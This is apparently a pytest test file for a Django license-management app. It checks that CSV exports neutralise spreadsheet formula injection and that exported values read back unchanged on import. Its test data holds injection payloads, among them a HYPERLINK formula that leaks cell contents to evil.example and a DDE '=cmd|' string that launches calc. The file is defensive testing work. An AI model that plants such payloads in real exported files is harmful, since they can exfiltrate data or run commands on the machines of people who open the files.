"""CSV formula injection: no cell the product writes starts a spreadsheet formula (OWASP), and what it exports
import_users reads back to the same values."""

import ast
import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command

from accounts.models import User
from accounts.selectors import emails_file
from core import csv_io
from core.audit import Actor
from licensing.services.bulk import licenses_bulk_assign
from tests.factories import LicensePoolFactory, ProductFactory, SubscriptionFactory, UserFactory

# OWASP's list of the characters a spreadsheet reads as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"Open")'
# Every leading character the writer escapes (defusedcsv adds | and %), the apostrophe that escapes them, a pipe
# inside an escaped cell (defusedcsv writes it as \|), a backslash before it, and names that need no escaping.
NAMES = [
    *(f"{start}{PAYLOAD}" for start in FORMULA_STARTS),
    "|calc",
    "%APPDATA%",
    "'quoted' name",
    "'",
    "''=twice",
    "=cmd|' /C calc'!A0",
    "=a\\|b",
    "-1.5",
    "Ann O'Neil",
    "Ann\r=1+2",
    "Plain Name",
]


def give(pool, users):
    licenses_bulk_assign(subscription=pool.subscription, product=pool.product, users=users, by=Actor(None, "system"))


def cells(path: Path) -> list[dict[str, str]]:
    """The raw cells of a CSV file, as a spreadsheet gets them."""
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def export(tmp_path: Path) -> Path:
    target = tmp_path / "assignments.csv"
    call_command("export_assignments", "--format", "csv", "--output", str(target))
    return target


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_export_assignments_neutralises_a_cell_that_would_start_a_formula(e3, tmp_path, start):
    give(e3, [UserFactory(email="ann@example.test", display_name=f"{start}{PAYLOAD}")])

    [row] = cells(export(tmp_path))

    assert row["display_name"] == f"'{start}{PAYLOAD}"


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_license_report_neutralises_a_cell_that_would_start_a_formula(run, db, start):
    LicensePoolFactory(
        subscription=SubscriptionFactory(name=f"{start}Contoso"),
        product=ProductFactory(name=f"{start}{PAYLOAD}", sku_part_number="E3"),
    )

    result = run("license_report", "--format", "csv")

    assert result.code == 0, result.err
    [row] = csv.DictReader(io.StringIO(result.out))
    assert (row["subscription"], row["product"]) == (f"'{start}Contoso", f"'{start}{PAYLOAD}")
    assert row["quantity"] == "10"  # numbers are left as they are


def test_a_carriage_return_inside_a_cell_cannot_start_a_row(e3, tmp_path):
    give(e3, [UserFactory(email="ann@example.test", display_name="Ann\r=1+2")])
    path = export(tmp_path)

    # A spreadsheet ends a row at a carriage return outside quotes, as universal newlines do.
    with open(path, encoding="utf-8") as handle:
        records = list(csv.reader(handle))

    assert [record[:2] for record in records[1:]] == [["ann@example.test", "Ann\n=1+2"]]
    assert [row["display_name"] for row in cells(path)] == ["Ann\r=1+2"]


def test_export_then_import_users_gives_back_the_same_names_and_emails(e3, tmp_path):
    """The export keeps its email and display_name columns (as an operator would cut them) and goes back in."""
    e3.quantity = 50
    e3.save(update_fields=["quantity"])
    emails = [f"user{number}@example.test" for number in range(len(NAMES))]
    emails[:3] = ["=ann@example.test", "'bo@example.test", "-cy|x@example.test"]
    users = [UserFactory(email=email, display_name=name) for email, name in zip(emails, NAMES, strict=True)]
    give(e3, users)
    exported = cells(export(tmp_path))
    users_file = tmp_path / "users.csv"
    with open(users_file, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["email", "display_name"])
        writer.writerows([row["email"], row["display_name"]] for row in exported)
    User.objects.filter(pk__in=[user.pk for user in users]).update(display_name="changed")

    call_command("import_users", str(users_file))

    assert User.objects.count() == len(users)  # no user was created under an escaped email
    assert dict(User.objects.values_list("email", "display_name")) == dict(zip(emails, NAMES, strict=True))


@pytest.mark.parametrize(
    ("cell", "value"),
    [
        ("'=x", "=x"),
        ("'=a\\|b", "=a|b"),
        ("'=a\\\\|b", "=a\\|b"),
        ("'\tx", "\tx"),
        ("''x", "'x"),
        ("'x", "'x"),  # not something the writer adds: kept
        ("'", "'"),
        ("a\\|b", "a\\|b"),  # a pipe is escaped only in a cell the writer prefixed
        ("-1.5", "-1.5"),
    ],
    ids=repr,
)
def test_reading_removes_exactly_what_writing_added(tmp_path, cell, value):
    path = tmp_path / "users.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["email", "display_name"], ["ann@example.test", cell]])

    _, parsed = csv_io.read_rows(path, required=("email",), optional=("display_name",))

    assert parsed.rows[0].values["display_name"] == value


@pytest.mark.parametrize("value", NAMES, ids=repr)
def test_every_value_survives_writing_and_reading(tmp_path, value):
    path = tmp_path / "out.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv_io.csv_writer(handle, ("email", "display_name"))
        writer.writeheader()
        writer.writerow({"email": "ann@example.test", "display_name": value})

    _, parsed = csv_io.read_rows(path, required=("email",), optional=("display_name",))

    assert parsed.rows[0].values["display_name"] == value
    written = cells(path)[0]["display_name"]
    # A plain number such as -1.5 is a number to a spreadsheet, never a formula; defusedcsv leaves it as it is.
    assert not written.startswith(FORMULA_STARTS) or re.fullmatch(r"-[0-9.,]+", written)


def test_a_users_file_may_be_an_export(e3, tmp_path):
    give(e3, [UserFactory(email="=ann@example.test")])

    assert emails_file(export(tmp_path)).rows == ["=ann@example.test"]


def test_only_csv_io_uses_the_csv_module():
    """Every CSV the product writes, now and later, goes through csv_io's writer."""
    root = Path(__file__).resolve().parents[2]
    users = []
    for package in ("core", "accounts", "licensing", "officeseries"):
        for path in (root / package).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
                if isinstance(node, ast.ImportFrom):
                    names = [node.module or ""]
                if any(name.split(".")[0] in ("csv", "defusedcsv") for name in names):
                    users.append(str(path.relative_to(root)))
    assert sorted(set(users)) == ["core/csv_io.py"]
